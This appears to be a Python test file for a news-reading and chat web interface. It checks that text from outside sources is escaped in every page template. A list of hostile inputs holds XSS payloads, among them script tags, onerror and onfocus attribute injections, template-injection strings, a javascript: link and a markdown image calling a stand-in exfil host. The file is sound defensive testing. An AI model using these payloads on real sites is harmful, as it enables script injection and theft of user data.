"""Text from outside stays text wherever a page shows it."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from folders import ATTACKS, lines_of
from pages import Outline, answer, article
from rag import (
    Answer,
    ArchivedPassage,
    ArticleSummary,
    Attempt,
    BackendInfo,
    Conversation,
    ConversationSummary,
    Filters,
    Span,
    StaleSource,
    Trace,
)
from rag.types import Removal
from ui.article_list import View, article_list_html
from ui.chat_controller import ChatTurn
from ui.chat_state import stale_sources_html
from ui.conversations_pages import (
    archived_excerpt_html,
    archived_page_html,
    conversation_html,
    conversations_html,
)
from ui.filters import (
    active_filters_html,
    chips_for,
    filter_chips_html,
    filter_form_html,
    ignored_labels,
)
from ui.html import safe_url
from ui.reading import excerpt_html, reading_html, unknown_article_html
from ui.render import answer_html, notice_html, turn_html

SCRIPTS = tuple(
    f"/footnote/{name}.js" for name in ("theme", "page", "conversations", "adding", "articles")
)
AT = "2026-02-03T04:05:06.789+00:00"
EXPECTED = frozenset(
    """html head meta title link script body header nav main article section footer aside h1 h2 p a
    sup span strong mark blockquote time code pre details summary ol ul li div s form label input
    button select option""".split()
)
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</mark></p></article><iframe src=//x>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "![x](https://exfil.example/?q=1) [x](javascript:alert(1))",
    "<!--",
    "]]>",
    "&lt;b&gt; &amp;",
    "\x00\ud800",
)


def every_place(hostile: str) -> list[str]:
    """Pages in which the text stands wherever a stranger's text can stand."""
    long = f"{hostile}\n\nThe harbour of Esk reopened on Monday. {hostile}"
    strange = article(
        long, title=hostile, origin=hostile, publisher=hostile, author=hostile, url=hostile,
        category=hostile, removed=(Removal(hostile, hostile),),
    )  # fmt: skip
    told = answer(strange, question=hostile, verdict="not_found")
    trace = Trace({"total": 1.0}, (Attempt(hostile, hostile),), (hostile,))
    told = replace(told, trace=trace, backend=BackendInfo(hostile, hostile))
    summary = ArticleSummary(strange.source, 1, 1)
    return [
        reading_html(strange),
        reading_html(strange, 0, len(long)),
        excerpt_html(strange, 0, len(long)),
        article_list_html([summary], View(hostile, hostile, hostile, hostile), can_change=True),
        unknown_article_html(hostile),
        turn_html(hostile, answer_html(told)),
        turn_html(hostile, answer_html(replace(told, refused=True))),
        notice_html("error", hostile, hostile),
        *kept_places(hostile, told),
    ]


def kept_places(hostile: str, told: Answer) -> list[str]:
    """The same for what is kept, and for filters."""
    source, citation = told.evidence[0].source, told.sentences[0].citations[0]
    understood = {
        "text": hostile,
        "publishers": [[hostile]],
        "missing_publishers": [hostile],
        "authors": [hostile],
        "articles": [hostile],
        "periods": [{"after": hostile, "before": hostile}],
    }
    told = replace(told, trace=replace(told.trace, understood=understood))
    filters = Filters(publishers=(hostile,), articles=(hostile,), ignoring=(hostile,))
    chips = chips_for(told, filters, {hostile: hostile})
    summary = ConversationSummary("0" * 16, hostile, AT, AT, 1)
    turn = ChatTurn(hostile, answer_html(told), told, number=1, conversation_id=hostile)
    kept = ArchivedPassage(told.evidence[0], Span(citation.start, citation.end), AT)
    listed = [ArticleSummary(replace(source, id=f"{n}", title=hostile), 1, 1) for n in range(2)]
    return [
        conversation_html(Conversation(summary, ()), (turn,)),
        conversations_html([summary], hostile, keeps_conversations=True),
        archived_excerpt_html(kept),
        archived_page_html(kept),
        archived_page_html(kept._replace(span=None)),
        stale_sources_html(told, {source.id: StaleSource(source, source.id)}),
        stale_sources_html(replace(told, refused=True), {source.id: StaleSource(source)}),
        filter_chips_html(chips, 1, ignored_labels(filters, {hostile: hostile})),
        filter_chips_html(chips, None),
        active_filters_html(filters, {hostile: hostile}),
        filter_form_html(listed),
    ]


def check_harmless(hostile: str) -> None:
    harmless = every_place("harmless")
    for page, plain in zip(every_place(hostile), harmless, strict=True):
        outline = Outline(page)
        assert {tag for tag, _ in outline.elements} <= EXPECTED
        for tag, attributes in outline.elements:
            assert not [name for name in attributes if name.startswith("on") or name == "style"]
            assert ("src" in attributes) == (tag == "script")
            assert attributes.get("src", SCRIPTS[0]) in SCRIPTS
        for href in outline.addresses():
            assert href.startswith(("/", "#", "https://", "http://"))
        assert not set(page) & set("`{}$")
        if safe_url(hostile) is None and len(hostile) < 60 and hostile.strip():
            assert len(outline.skeleton) == len(Outline(plain).skeleton)
        page.encode("utf-8")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_strange_text_stays_text(hostile: str) -> None:
    check_harmless(hostile)


@pytest.mark.parametrize("hostile", lines_of(ATTACKS / "scripts.txt"))
def test_script_strings_stay_text(hostile: str) -> None:
    check_harmless(hostile)


@given(st.text(max_size=80))
def test_escaped_text_reads_back_as_itself(text: str) -> None:
    expected = re.sub("[\x00\ud800-\udfff]", "\ufffd", text)
    parser = Outline(notice_html(text, f"({text})", "message"))
    assert parser.elements[0] == ("div", {"class": f"notice {expected}", "role": "status"})
    assert f"({expected})" in "".join(parser.texts)
